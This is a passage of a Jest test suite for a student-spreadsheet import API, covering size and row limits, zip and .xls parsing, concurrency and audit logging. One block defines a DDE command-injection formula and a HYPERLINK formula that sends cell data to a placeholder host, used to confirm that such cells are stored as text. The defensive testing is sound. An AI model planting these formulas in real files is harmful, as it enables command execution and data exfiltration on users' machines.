    async (_, sheet) => {
      const file = handWritten([plainRow(nextRowNumber++)], sheet);
      expect(file.length).toBeLessThan(5_000);
      const { result: response, growth } = await watched(() => importFile(lucia, file));
      expect(response.json()).toMatchObject({ ok: true, created: 1 });
      expect(growth).toBeLessThan(60 * MB);
    },
  );

  it('counts the cells of a legacy .xls before SheetJS parses it', async () => {
    // Not compressed: its 5 MB are the bound, but one cell takes 6 to 18 bytes.
    const file = xlsFile([[...TEMPLATE_HEADERS], plainRow(340, { 'Ingresos (USD)': 500 })]);
    const withCells = (maxCells: number) =>
      readFirstSheet(file, 'xls', { ...SPREADSHEET_LIMITS, maxCells });
    await expect(withCells(21)).rejects.toMatchObject({ excess: 'cells' });
    expect((await withCells(22)).rows).toHaveLength(2);
    const oversized = Buffer.concat([file, Buffer.alloc(5 * MB)]);
    const response = await importFile(lucia, oversized, 'estudiantes.xls');
    expect(response.statusCode).toBe(413);
    expect(response.json()).toEqual({ ok: false, msg: MSG.import.tooLarge });
  });

  it('reads a legacy .xls full of unknown records without writing a line per record to the log', async () => {
    const file = xlsWithUnknownRecords(
      [[...TEMPLATE_HEADERS], plainRow(420, { 'Ingresos (USD)': 500 })],
      1_000,
    );
    const stderr = jest.spyOn(console, 'error');
    try {
      const response = await importFile(lucia, file, 'estudiantes.xls');
      expect(response.json()).toMatchObject({ ok: true, created: 1 });
      expect(stderr).not.toHaveBeenCalled();
    } finally {
      stderr.mockRestore();
    }
  });
});

describe('cells that are not what they seem', () => {
  const DDE = "=cmd|' /C calc'!A0";
  const HYPERLINK = '=HYPERLINK("http://ejemplo.test/?d="&A2,"Ver")';

  it('stores formulas, and text that looks like one, as their text: never evaluated', async () => {
    const file = await sheetWith([
      studentRow(400, { Ciudad: DDE }),
      studentRow(401, { Ciudad: { formula: DDE.slice(1) } }),
      studentRow(402, { Ciudad: HYPERLINK }),
      studentRow(403, { Carrera: { formula: HYPERLINK.slice(1) } }),
      studentRow(404, { Ciudad: '@SUM(1+1)', Carrera: '+1+1' }),
      studentRow(405, { Ciudad: '-1+1', Carrera: { formula: '1+1' } }),
    ]);
    const response = await importFile(lucia, file);
    expect(response.json()).toMatchObject({ ok: true, created: 6 });
    const stored = async (n: number) => {
      const { id } = (await studentByEmail(`importado${n}@estudiantes.test`))!;
      const detail = await server.call({ method: 'GET', url: `/api/students/${id}`, token: lucia });
      const { city, career } = detail.json().student as { city: string; career: string };
      return { city, career };
    };
    expect(await stored(400)).toMatchObject({ city: DDE });
    expect(await stored(401)).toMatchObject({ city: DDE });
    expect(await stored(402)).toMatchObject({ city: HYPERLINK });
    expect(await stored(403)).toMatchObject({ career: HYPERLINK });
    expect(await stored(404)).toEqual({ city: '@SUM(1+1)', career: '+1+1' });
    expect(await stored(405)).toEqual({ city: '-1+1', career: '=1+1' });
  });

  it('stores a legacy .xls cell that looks like a formula as its text', async () => {
    const file = xlsFile([
      [...TEMPLATE_HEADERS],
      [
        'Ana',
        'Mora',
        20,
        'Femenino',
        'xls.dde@estudiantes.test',
        '0991234567',
        DDE,
        'Derecho',
        'Primero',
        'Empleado/a',
        null,
      ],
    ]);
    expect((await importFile(lucia, file, 'estudiantes.xls')).json()).toMatchObject({
      ok: true,
      created: 1,
    });
    expect((await studentByEmail('xls.dde@estudiantes.test'))?.city).toBe(DDE);
  });

  it('answers a Spanish problem per over-long cell, writes nothing, and echoes none of it', async () => {
    const long = 'a'.repeat(40_000);
    const file = await sheetWith([
      studentRow(410),
      studentRow(411, {
        Nombres: long,
        Apellidos: long,
        'Correo electrónico': `${long}@estudiantes.test`,
        Teléfono: '9'.repeat(40_000),
        Ciudad: long,
        Carrera: long,
      }),
    ]);
    const response = await importFile(lucia, file);
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({
      ok: false,
      msg: SERVER_MSG.import.invalidRows(6),
      errors: [
        { row: 3, column: 'Nombres', field: 'firstName', msg: MSG.students.nameLength },
        { row: 3, column: 'Apellidos', field: 'lastName', msg: MSG.students.nameLength },
        { row: 3, column: 'Correo electrónico', field: 'email', msg: MSG.students.emailInvalid },
        { row: 3, column: 'Teléfono', field: 'phone', msg: MSG.students.phoneFormat },
        { row: 3, column: 'Ciudad', field: 'city', msg: MSG.students.cityLength },
        { row: 3, column: 'Carrera', field: 'career', msg: MSG.students.careerLength },
      ],
    });
    expect(response.body.length).toBeLessThan(2_000);
    expect(await studentByEmail('importado410@estudiantes.test')).toBeUndefined();
  });
});

describe('files that are not spreadsheets', () => {
  it('refuses text, an image or a Word document named .xlsx', async () => {
    const text = Buffer.from('Nombres;Apellidos;Edad\nAna;Mora;20\n');
    const png = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000', 'hex');
    for (const file of [text, png]) {
      const response = await importFile(lucia, file, 'estudiantes.xlsx');
      expect(response.statusCode).toBe(400);
      expect(response.json()).toEqual({ ok: false, msg: MSG.import.wrongType });
    }
    // A zip, as an .xlsx is, but a Word document's: no worksheet in it.
    const docx = zipArchive([
      {
        name: '[Content_Types].xml',
        content:
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/></Types>',
      },
      {
        name: 'word/document.xml',
        content:
          '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Nombres</w:t></w:r></w:p></w:body></w:document>',
      },
    ]);
    const response = await importFile(lucia, docx, 'estudiantes.xlsx');
    expect(response.statusCode).toBe(400);
    expect(response.json()).toEqual({ ok: false, msg: SERVER_MSG.import.unreadable.noSheet });
  });
});

describe('inspectZip', () => {
  const parts = () =>
    handWrittenWorkbookParts({ sheetData: sheetDataXml([[...TEMPLATE_HEADERS], plainRow(1)]) });

  it('counts the rows, cells and shared strings of every part, across inflated chunks', async () => {
    const rows = Array.from({ length: 3_000 }, (_, r) =>
      Array.from({ length: 7 }, (__, c) => (c % 2 ? `t${r}x${c}` : r * c)),
    );
    const strings = Array.from({ length: 1_234 }, (_, n) => `<si><t>${n}</t></si>`).join('');
    // The inflater hands a part over in 64 KB chunks: after two bytes, every
    // chunk boundary falls in the middle of a `<c/>`.
    const straddling = `..${'<c/>'.repeat(250_000)}`;
    const file = zipArchive([
      ...handWrittenWorkbookParts({ sheetData: sheetDataXml(rows) }),
      { name: 'xl/sharedStrings.xml', content: `<sst>${strings}</sst>` },
      { name: 'xl/worksheets/sheet2.xml', content: straddling },
    ]);
    await expect(inspectZip(file, { ...SPREADSHEET_LIMITS, maxCells: 1_000_000 })).resolves.toEqual(
      {
        entries: 7,
        inflatedBytes: expect.any(Number),
        rows: 3_000,
        cells: 3_000 * 7 + 1_234 + 250_000,
      },
    );
  });

  it('reads the zip as exceljs will, and refuses what would make the two readings differ', async () => {
    const good = zipArchive(parts());
    await expect(inspectZip(good)).resolves.toMatchObject({ entries: 5 });
    // An entry the directory does not count (JSZip would still read it).
    const uncounted = Buffer.from(good);
    uncounted.writeUInt16LE(4, uncounted.length - 12);
    uncounted.writeUInt16LE(4, uncounted.length - 14);
    // Bytes before the archive: JSZip would shift every offset, this reader would not.
    const shifted = Buffer.concat([Buffer.alloc(64), good]);
    // ZIP64 markers, and a compression method JSZip does not know.
    const zip64 = Buffer.from(good);
    zip64.writeUInt32LE(0xffffffff, zip64.length - 6);
    const bzip2 = Buffer.from(good);
    bzip2.writeUInt16LE(12, bzip2.indexOf(Buffer.from([0x50, 0x4b, 0x01, 0x02])) + 10);
    for (const file of [uncounted, shifted, zip64, bzip2]) {
      await expect(inspectZip(file)).rejects.toBeInstanceOf(UnreadableSpreadsheetError);
    }
  });

  it('lets readFirstSheet refuse before exceljs opens anything', async () => {
    const limits = { ...SPREADSHEET_LIMITS, maxCells: 5 };
    await expect(readFirstSheet(zipArchive(parts()), 'xlsx', limits)).rejects.toMatchObject({
      excess: 'cells',
    });
    expect((await readFirstSheet(zipArchive(parts()), 'xlsx')).rows).toHaveLength(2);
  });
});

describe('reading stops at the first row past 5,000', () => {
  const rowsXml = (count: number, from = 0) =>
    sheetDataXml([
      [...TEMPLATE_HEADERS],
      ...Array.from({ length: count }, (_, n) => plainRow(from + n)),
    ]);

  it('refuses 18,000 students having inflated about 5,000 of them', async () => {
    const sheetData = rowsXml(18_000);
    const error = await inspectZip(zipArchive(handWrittenWorkbookParts({ sheetData }))).catch(
      (caught: unknown) => caught,
    );
    expect(error).toBeInstanceOf(SpreadsheetTooLargeError);
    expect(error).toMatchObject({ excess: 'rows' });
    // The sheet's first 5,002 rows, not its 18,001.
    const inflated = (error as SpreadsheetTooLargeError).inflatedBytes;
    expect(inflated).toBeLessThan(sheetData.length * 0.4);
  });

  it('counts only the rows of the first sheet that hold a value', async () => {
    const formattedEmpty = Array.from(
      { length: 8_000 },
      (_, n) => `<row r="${n + 40}"><c r="A${n + 40}" s="1"/></row>`,
    ).join('');
    const parts = [
      ...handWrittenWorkbookParts({ sheetData: rowsXml(30) + formattedEmpty }),
      // A sheet the workbook does not list first: its rows are not students.
      { name: 'xl/worksheets/sheet2.xml', content: `<worksheet><sheetData>${rowsXml(6_000)}` },
    ];
    await expect(inspectZip(zipArchive(parts))).resolves.toMatchObject({ entries: 6 });
    // Prefixed elements, as some generators write them, are counted too.
    const prefixed = rowsXml(5_001).replace(/<(\/?)(row|c|is|t|v)\b/g, '<$1x:$2');
    await expect(
      inspectZip(zipArchive(handWrittenWorkbookParts({ sheetData: prefixed }))),
    ).rejects.toMatchObject({ excess: 'rows' });
  });

  it('counts the rows of a legacy .xls before SheetJS parses it', async () => {
    const rows = (count: number) => [
      [...TEMPLATE_HEADERS],
      ...Array.from({ length: count }, (_, n) => plainRow(n)),
    ];
    await expect(readFirstSheet(xlsFile(rows(5_001)), 'xls')).rejects.toMatchObject({
      excess: 'rows',
    });
    expect((await readFirstSheet(xlsFile(rows(5_000)), 'xls')).rows).toHaveLength(5_001);
  });
});

describe('imports under load (docs/limits-and-budgets.md#speed-and-size-budgets)', () => {
  const rowsFrom = (from: number, count: number) =>
    sheetWith(Array.from({ length: count }, (_, n) => studentRow(from + n)));

  it('reads the file in a thread of its own: the server stays free meanwhile', async () => {
    // 5,000 rows read and validated in full, the last one wrong: nothing is written.
    const rows = Array.from({ length: 5_000 }, (_, n) => studentRow(400_000 + n));
    rows[4_999] = studentRow(404_999, { 'Correo electrónico': 'no-es-un-correo' });
    const request = fileUpload(await sheetWith(rows), 'estudiantes.xlsx');
    let importing = true;
    let probes = 0;
    const probing = (async () => {
      while (importing) {
        await server.call({ method: 'GET', url: '/api/health/live' });
        probes += 1;
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })();
    const before = performance.eventLoopUtilization();
    const response = await upload(lucia, request);
    const busy = performance.eventLoopUtilization(before).utilization;
    importing = false;
    await probing;
    expect(response.statusCode).toBe(400);
    expect(response.json()).toMatchObject({ msg: SERVER_MSG.import.invalidRows(1) });
    expect(probes).toBeGreaterThan(5);
    // The share of the import's time this thread (the server's, and the
    // test's) was at work rather than waiting: about 0.9 when it read the
    // file itself. A busy machine slows the reading thread, not this share.
    expect(busy).toBeLessThan(0.5);
  });

  it('lets one person run one import at a time: a second one is told to wait', async () => {
    const [first, second] = await Promise.all([
      rowsFrom(500_000, 2_000).then((file) => importFile(lucia, file)),
      rowsFrom(510_000, 2_000).then((file) => importFile(lucia, file)),
    ]);
    const answers = [first, second].sort((a, b) => a.statusCode - b.statusCode);
    expect(answers.map((answer) => answer.statusCode)).toEqual([200, 429]);
    expect(answers[1]!.json()).toEqual({ ok: false, msg: SERVER_MSG.import.alreadyRunning });
    expect(Number(answers[1]!.headers['retry-after'])).toBeGreaterThan(0);
    // Its place is given back once it has answered.
    const again = await importFile(lucia, await rowsFrom(520_000, 1));
    expect(again.statusCode).toBe(200);
  });

  it('runs at most two imports at once in one server', async () => {
    const third = (
      await inviteAndSignIn(server, admin, { email: 'tercera.importa@psicocampus.test' })
    ).token;
    const files = await Promise.all([0, 1, 2].map((n) => rowsFrom(530_000 + n * 10_000, 2_000)));
    const answers = await Promise.all(
      [lucia, martin, third].map((token, n) => importFile(token, files[n]!)),
    );
    const statuses = answers.map((answer) => answer.statusCode).sort();
    expect(statuses).toEqual([200, 200, 429]);
    const refused = answers.find((answer) => answer.statusCode === 429)!;
    expect(refused.json()).toEqual({ ok: false, msg: SERVER_MSG.import.serverBusy });
    expect(refused.headers['retry-after']).toBeDefined();
  });

  it('refuses a file whose reading runs out of memory, and reads the next one', async () => {
    const log = server.app.log;
    // Room for the thread to start (about 30 MB), not for 175,000 cells (about 100 MB).
    const parser = createImportParser({ log, heapMb: 48 });
    try {
      const wide = Array.from({ length: 24 }, (_, c) => `Nota ${c}`);
      const big = await xlsxFile([
        [...TEMPLATE_HEADERS, ...wide],
        ...Array.from({ length: 5_000 }, (_, n) => [
          ...studentRow(600_000 + n),
          ...wide.map((_, c) => `texto ${n}-${c}`),
        ]),
      ]);
      await expect(parser.parse(big, log)).rejects.toMatchObject({
        statusCode: 400,
        message: SERVER_MSG.import.tooMuchContent,
      });
      await expect(parser.parse(await rowsFrom(610_000, 3), log)).resolves.toMatchObject({
        rowCount: 3,
      });
    } finally {
      await parser.close();
    }
  }, 180_000);
});

describe('the audit row of an import', () => {
  it('names how many students it created and the batch that lists them', async () => {
    const taken = 'lote.ya.registrado@estudiantes.test';
    await importFile(
      lucia,
      await sheetWith([studentRow(700_000, { 'Correo electrónico': taken })]),
    );
    const file = await sheetWith([
      studentRow(700_001),
      studentRow(700_002),
      studentRow(700_003, { 'Correo electrónico': taken }),
    ]);
    const response = await importFile(lucia, file);
    expect(response.json()).toMatchObject({ created: 2, duplicates: [{ row: 4 }] });

    const [row] = (await auditRowsOf(server, 'student.import')).slice(-1);
    const batchId = row!.recordId!;
    expect(row).toMatchObject({ outcome: 'success', detail: { created: 2, batchId } });
    const created = await server.server.database.db
      .select({ email: students.email })
      .from(students)
      .where(eq(students.importBatchId, batchId));
    expect(created.map(({ email }) => email).sort()).toEqual([
      'importado700001@estudiantes.test',
      'importado700002@estudiantes.test',
    ]);
    // The duplicate's student, from an earlier import, keeps its own batch.
    expect((await studentByEmail(taken))!.importBatchId).not.toBe(batchId);

    // What the administrator sees: the entry with its batch, and its students.
    const audit = await server.call({
      method: 'GET',
      url: '/api/audit?action=student.import',
      token: admin,
    });
    expect(audit.json().entries[0]).toMatchObject({
      recordType: 'import_batch',
      recordId: batchId,
      detail: { created: 2, batchId },
    });
    const listed = await server.call({
      method: 'GET',
      url: `/api/admin/students?batch=${batchId}`,
      token: admin,
    });
    expect(listed.json().total).toBe(2);
    expect(
      listed
        .json()
        .students.map((student: { email: string }) => student.email)
        .sort(),
    ).toEqual(created.map(({ email }) => email).sort());
    const malformed = await server.call({
      method: 'GET',
      url: '/api/admin/students?batch=nope',
      token: admin,
    });
    expect(malformed.statusCode).toBe(400);
  });
});
